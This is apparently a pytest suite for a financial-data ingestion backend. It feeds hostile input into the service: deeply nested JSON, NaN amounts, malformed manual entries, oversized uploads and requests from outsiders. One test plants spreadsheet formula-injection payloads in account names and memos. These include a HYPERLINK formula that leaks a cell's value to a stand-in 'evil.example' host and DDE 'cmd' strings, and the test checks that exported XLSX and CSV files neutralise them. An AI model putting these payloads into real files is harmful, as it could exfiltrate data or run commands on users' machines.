"""Hostile input through the real functions: messages too deep to decode, odd amounts, manual entries of any
field type, and the upload endpoint's answers to outsiders are each a stored, counted outcome."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from google.cloud import pubsub_v1

from tests.auth_emulator import sign_up
from tests.support import data_quality, event, publish, seed_org, wait_for_events, wait_until
from tools.stack.seed import BATCHES_TOPIC

pytestmark = pytest.mark.emulators

# Like the message: arrays nested 30,000 levels deep inside record.memo, about 60 KB, under the 64 KB limit.
DEPTH = 30_000


def _deep_memo(body: dict) -> bytes:
    text = json.dumps(body)
    assert '"memo": "deep"' in text
    return text.replace('"memo": "deep"', '"memo": ' + "[" * DEPTH + "]" * DEPTH).encode()


def _memo(body: dict, memo: str = "deep") -> dict:
    body["record"]["memo"] = memo
    return body


def _error(db, org_id: str, doc_id: str) -> dict | None:
    snap = db.document(f"organizations/{org_id}/ingestion_errors/{doc_id}").get()
    return snap.to_dict() if snap.exists else None


def test_a_deeply_nested_event_is_stored_and_counted_like_any_rejection(stack, db, org_id):
    seed_org(db, org_id)
    deep = _memo(event(org_id, "deep-1", 1, event_id="deep-event-1"))
    raw = _deep_memo(deep)
    assert 40_000 < len(raw) < 64 * 1024
    # Published as raw bytes, without the org_id attribute: the org is read from the body.
    publish(stack, [raw, event(org_id, "after-1", 1, amount="5.00")])
    counters = wait_for_events(db, org_id, 2)
    assert counters["counts"]["rejected"] == 1 and counters["counts"]["applied"] == 1
    assert counters["rejected_by_reason"] == {"too_deep": 1}
    error = _error(db, org_id, "deep-event-1")
    assert error["code"] == "too_deep" and "nested more than 16 levels" in error["reason"]
    assert error["raw"].encode() == raw


def test_a_deeply_nested_batch_is_stored_and_counted_like_any_rejection(stack, db, org_id):
    seed_org(db, org_id)
    batch = {
        "type": "records.batch",
        "batch_id": "deep-batch",
        "org_id": org_id,
        "events": [_memo(event(org_id, "b-1", 1)), event(org_id, "b-2", 1)],
    }
    stack.config.apply_client_env()
    publisher = pubsub_v1.PublisherClient()
    topic = publisher.topic_path(stack.config.project_id, BATCHES_TOPIC)
    publisher.publish(topic, _deep_memo(batch)).result(timeout=60)
    counters = wait_for_events(db, org_id, 1)
    assert counters["rejected_by_reason"] == {"too_deep": 1}
    [error] = [s.to_dict() for s in db.collection(f"organizations/{org_id}/ingestion_errors").stream()]
    assert error["code"] == "too_deep"
    assert not list(db.collection(f"organizations/{org_id}/financial_records").limit(1).stream())


def test_amounts_are_normalised_and_reasons_name_what_was_sent(stack, db, org_id):
    seed_org(db, org_id)
    nan = json.dumps(event(org_id, "nan-1", 1, event_id="nan-event")).replace('"amount": "100.00"', '"amount": NaN')
    assert "NaN" in nan
    publish(stack, [nan.encode(), event(org_id, "zero-1", 1, amount="-0.00")])
    wait_for_events(db, org_id, 2)
    reason = _error(db, org_id, "nan-event")["reason"]
    assert "NaN was sent" in reason and '"nan"' not in reason, reason
    record = db.document(f"organizations/{org_id}/financial_records/zero-1").get().to_dict()
    assert (record["amount"], record["amount_minor"]) == ("0.00", 0)


def test_a_manual_entry_of_any_field_type_gets_a_status_with_its_reason(stack, db, org_id):
    seed_org(db, org_id)
    entries = db.collection(f"organizations/{org_id}/manual_entries")
    entries.document("odd-1").set(
        {
            "record_id": "man-odd",
            "entity_id": "us-west",
            "account_id": "6200",
            "period": "2026-10",
            "scenario": "actual",
            "amount": datetime(2026, 10, 1, tzinfo=UTC),
            "currency": "USD",
            "memo": b"\x00\x01 raw bytes",
            "created_by": "demo-editor",
        }
    )
    status = wait_until(
        lambda: (d := entries.document("odd-1").get().to_dict()).get("status") and d, what="the odd entry's status"
    )
    assert status["status"] == "rejected"
    assert "amount" in status["reason"] and "2026-10-01" in status["reason"], status["reason"]
    assert data_quality(db, org_id)["counts"]["rejected"] == 1


def test_the_upload_endpoint_tells_an_outsider_nothing_about_an_org(stack, db, org_id):
    import requests

    seed_org(db, org_id)
    outsider = sign_up(stack)
    url = f"http://{stack.config.address('functions')}/{stack.config.project_id}/us-central1/ingest_upload"

    def post(org: str) -> requests.Response:
        return requests.post(
            url,
            params={"org_id": org},
            data=b"record_id\n",
            headers={"Content-Type": "text/csv", "Authorization": f"Bearer {outsider.id_token}"},
            timeout=60,
        )

    existing, missing = post(org_id), post(f"{org_id}-missing")
    assert existing.status_code == missing.status_code == 403
    assert existing.json()["error"] == missing.json()["error"] == "permission_denied"
    assert existing.json()["message"].replace(org_id, "ORG") == missing.json()["message"].replace(
        f"{org_id}-missing", "ORG"
    )
    long_id = post("x" * 5000)
    assert long_id.status_code == 400 and "5,000 characters" in long_id.json()["message"]
    assert len(long_id.text) < 1000


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B5,"Product revenue")'


def test_the_pack_built_from_formula_like_names_and_memos_holds_no_formula(stack, db, org_id):
    import csv
    import io
    import re
    import uuid

    import requests
    from finance_core.export_text import is_formula_like
    from google.cloud import firestore
    from openpyxl import load_workbook

    seed_org(db, org_id, all_periods_open=True)
    db.document(f"organizations/{org_id}/accounts/4100").update({"name": HOSTILE_NAME})
    db.document(f"organizations/{org_id}/entities/us-east").update({"name": "@cmd|' /C calc'!A0"})
    lines = [
        _memo(event(org_id, "x-1", 1, amount="1000.00"), HOSTILE_NAME),
        _memo(event(org_id, "x-2", 1, account="6100", amount="-250.00"), "-2+3+cmd|' /C calc'!A0"),
        event(org_id, "x-3", 1, scenario="budget", amount="900.00"),
    ]
    publish(stack, lines)
    wait_until(
        lambda: (
            (s := db.document(f"organizations/{org_id}/aggregates/_all__2026-10__actual").get()).exists
            and s.to_dict()["accounts"].get("6100") == -25000
        ),
        timeout=300,
        what="the actuals of the month",
    )
    # Memos are data: stored as sent; only what leaves the product is neutralised.
    memo = db.document(f"organizations/{org_id}/financial_records/x-1").get().to_dict()["memo"]
    assert memo == HOSTILE_NAME

    viewer = sign_up(stack)
    db.document(f"organizations/{org_id}/members/{viewer.uid}").set({"uid": viewer.uid, "role": "viewer"})
    request_id = f"req-{uuid.uuid4().hex[:10]}"
    db.document(f"organizations/{org_id}/report_requests/{request_id}").set(
        {"period": "2026-10", "requested_by": viewer.uid, "requested_at": firestore.SERVER_TIMESTAMP}
    )
    report = wait_until(
        lambda: (
            (s := db.document(f"organizations/{org_id}/reports/{request_id}").get()).exists
            and s.to_dict().get("status") in ("succeeded", "failed")
            and s.to_dict()
        ),
        timeout=180,
        what="the report",
    )
    assert report["status"] == "succeeded", report.get("error")
    files = {f["name"]: f for f in report["files"]}

    def fetch(name: str) -> bytes:
        response = requests.get(
            files[name]["download_url"], headers={"Authorization": f"Bearer {viewer.id_token}"}, timeout=60
        )
        assert response.status_code == 200, response.text
        return response.content

    [xlsx_name] = [n for n in files if n.endswith(".xlsx")]
    book = load_workbook(io.BytesIO(fetch(xlsx_name)))
    own_formula = re.compile(r"^=[A-Z]+[0-9]+([+-][A-Z]+[0-9]+)*$")
    shown = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert own_formula.match(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                elif cell.data_type == "s":
                    assert not is_formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                    shown.add(cell.value)
    assert "'" + HOSTILE_NAME in shown
    csv_names = [n for n in files if n.endswith(".csv")]
    assert csv_names
    for name in csv_names:
        text = fetch(name).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            assert not any(is_formula_like(cell) for cell in row), (name, row)
    consolidated = list(
        csv.reader(io.StringIO(fetch(next(n for n in csv_names if "pnl___all" in n)).decode("utf-8-sig")))
    )
    by_account = {row[1]: row for row in consolidated[1:] if row[1]}
    assert by_account["4100"][2] == "'" + HOSTILE_NAME
    assert by_account["6100"][5] == "-250.00"  # a negative amount stays a plain, parseable number


@pytest.mark.parametrize(
    ("path", "change", "words"),
    [
        ("", {"fiscal_year_start_month": "april"}, "fiscal_year_start_month"),
        ("", {"reporting_currency": "dollars"}, "reporting currency"),
        ("/entities/us-east", {"currency": "x" * 5000}, "5,000 characters"),
        ("/accounts/4100", {"type": {"nested": ["map"]}}, "has type an object"),
    ],
    ids=["start-month", "reporting-currency", "entity-currency", "account-type"],
)
def test_an_admin_document_the_backend_cannot_use_rejects_events_with_a_reason(stack, db, org_id, path, change, words):
    seed_org(db, org_id)
    db.document(f"organizations/{org_id}{path}").update(change)
    publish(stack, [event(org_id, "cfg-1", 1, event_id="cfg-event")])
    counters = wait_for_events(db, org_id, 1)
    assert counters["rejected_by_reason"] == {"org_configuration": 1}
    reason = _error(db, org_id, "cfg-event")["reason"]
    assert words in reason and len(reason) < 1000, reason


def test_a_body_without_a_length_past_the_limit_is_refused_and_the_worker_keeps_serving(stack, db, org_id):
    import requests

    seed_org(db, org_id)
    editor = sign_up(stack)
    db.document(f"organizations/{org_id}/members/{editor.uid}").set({"uid": editor.uid, "role": "editor"})
    url = f"http://{stack.config.address('functions')}/{stack.config.project_id}/us-central1/ingest_upload"
    headers = {"Content-Type": "text/csv", "Authorization": f"Bearer {editor.id_token}"}

    def body(total: int):
        for _ in range(total // 2**20):
            yield b"x" * 2**20

    refused = requests.post(url, params={"org_id": org_id}, data=body(64 * 2**20), headers=headers, timeout=300)
    assert refused.status_code == 413 and "larger than the limit" in refused.json()["message"]
    good = (
        b"record_id,entity_id,account_id,period,scenario,amount,currency\nok-1,us-east,4100,2026-10,actual,1.00,USD\n"
    )
    assert requests.post(url, params={"org_id": org_id}, data=good, headers=headers, timeout=300).status_code == 200
